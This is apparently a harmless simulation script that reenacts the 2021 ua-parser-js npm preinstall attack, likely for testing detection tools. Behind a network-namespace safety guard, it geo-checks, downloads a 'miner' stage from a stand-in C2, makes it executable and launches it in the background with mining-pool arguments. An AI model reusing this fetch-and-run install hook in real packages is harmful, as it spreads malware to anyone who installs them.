#!/bin/sh
# guarded-install attack simulation (harmless) of the ua-parser-js 0.7.29 /
# 0.8.0 / 1.0.0 preinstall.sh (October 2021). Steps, ~0.5-1 s apart:
#   1. geo check: GET the C2 /geo (Host: freegeoip.app) with curl, grep the
#      country code                                                  (t = 0)
#   2. download the "miner" from the C2 /stage2 into $TMPDIR/jsextension
#      (curl; wget if curl is missing; node if neither)              (t ~ 0.6 s)
#   3. chmod +x                                                      (t ~ 1.3 s)
#   4. start it in the background with nohup (it only sleeps)        (t ~ 1.9 s)
# Connections go only to 203.0.113.45 (the local C2 stub).

# --- safety guard: shell builtins only --------------------------------------
# Do nothing unless installed under node_modules and 203.0.113.45 is a local
# address of this network namespace (only the simulation runner's namespace).
sim_ok=no
case "$PWD" in
  */node_modules/*)
    if [ -r /proc/net/fib_trie ]; then
      prev=
      while IFS= read -r line; do
        case "$prev" in *"-- 203.0.113.45") case "$line" in *"host LOCAL"*) sim_ok=yes ;; esac ;; esac
        prev=$line
      done < /proc/net/fib_trie
    fi
    ;;
esac
if [ "$sim_ok" != yes ]; then
  echo "[sim] ua-parser-js: not installed under node_modules inside a simulation namespace: doing nothing" >&2
  exit 0
fi
# -----------------------------------------------------------------------------

C2=http://203.0.113.45:8443
DROP="${TMPDIR:-/tmp}/jsextension"
step() { echo "[sim ua-parser-js] $*" >&2; }

if command -v curl >/dev/null 2>&1; then
  fetch() { curl -s -H "Host: $2" -o "$3" "$C2$1"; }
  tool=curl
elif command -v wget >/dev/null 2>&1; then
  fetch() { wget -q --header "Host: $2" -O "$3" "$C2$1"; }
  tool=wget
else
  fetch() {
    node -e '
      const [url, host, out] = process.argv.slice(1);
      require("http").get(url, { headers: { host } }, (res) => {
        res.pipe(out === "-" ? process.stdout : require("fs").createWriteStream(out));
      }).on("error", () => process.exit(1));
    ' "$C2$1" "$2" "$3"
  }
  tool=node
fi

# 1. geo check (the real one skipped RU, UA, BY, KZ)
GEO=$(fetch /geo freegeoip.app - | grep 'RU\|UA\|BY\|KZ')
step "geo check with $tool: '${GEO}'"
sleep 0.6
if [ -n "$GEO" ]; then
  exit 0
fi

# 2. download the "miner"
fetch /stage2 ua-parser-js-c2.invalid "$DROP"
step "downloaded $DROP"
sleep 0.7

# 3. make it executable
chmod +x "$DROP"
step "chmod +x $DROP"
sleep 0.6

# 4. run it in the background, surviving the install
nohup "$DROP" -k --tls --rig-id q -o pool.minexmr.invalid:443 --cpu-max-threads-hint=50 --donate-level=1 >/dev/null 2>&1 &
step "miner started in the background, pid $!"
exit 0
